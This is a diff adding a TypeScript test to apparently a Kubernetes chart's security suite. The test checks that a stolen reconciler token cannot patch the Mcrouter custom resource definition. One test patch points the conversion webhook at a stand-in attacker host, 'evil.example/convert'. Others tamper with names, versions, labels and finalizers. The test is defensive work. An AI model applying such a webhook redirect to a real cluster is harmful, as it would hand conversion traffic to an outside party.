@@ -6,6 +6,7 @@ import { KINDS } from '../../render/kinds.ts'
 import type { JsonObject } from '../../schemas/json.ts'
 import type { Answer, Method } from '../../testing/control-plane/client.ts'
 import { eventually } from '../../testing/deadline.ts'
+import { at } from '../support/at.ts'
 import { mcrouter, startCluster } from '../support/cluster.ts'
 
 // What somebody can do who has stolen the reconciler's token: what RBAC grants, less what the chart's policies refuse.
@@ -148,4 +149,34 @@ t.test('no pods are made that reach more than their own container', async (t) =>
     ...containers,
   ])
     await refused(t, 'POST', path, made(spec))
+})
+
+t.test('the conversion of Mcrouters is not sent elsewhere, nor their definition changed', async (t) => {
+  const path = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/mcrouters.mcrouter.example.com'
+  const { body } = await controlPlane.client.request('GET', path)
+  const versions = at(body, 'spec', 'versions')
+  const elsewhere = {
+    conversionReviewVersions: ['v1'],
+    clientConfig: { url: 'https://evil.example/convert' },
+  }
+  const patches = [
+    { spec: { conversion: { strategy: 'Webhook', webhook: elsewhere } } },
+    { spec: { names: { shortNames: ['x'] } } },
+    {
+      spec: {
+        versions: [...(Array.isArray(versions) ? versions : [])].map((one) => ({ ...one, deprecated: true })),
+      },
+    },
+    { metadata: { labels: { a: 'b' } } },
+    { metadata: { annotations: { a: 'b' } } },
+    { metadata: { finalizers: ['example.com/kept'] } },
+  ]
+  for (const patch of patches) {
+    const { status, text } = await controlPlane.client.request('PATCH', `${path}?dryRun=All`, {
+      headers: THIEF,
+      body: patch,
+      contentType: 'application/merge-patch+json',
+    })
+    t.match({ status, text }, { status: /^(403|422)$/, text: REFUSED }, JSON.stringify(patch).slice(0, 80))
+  }
 })
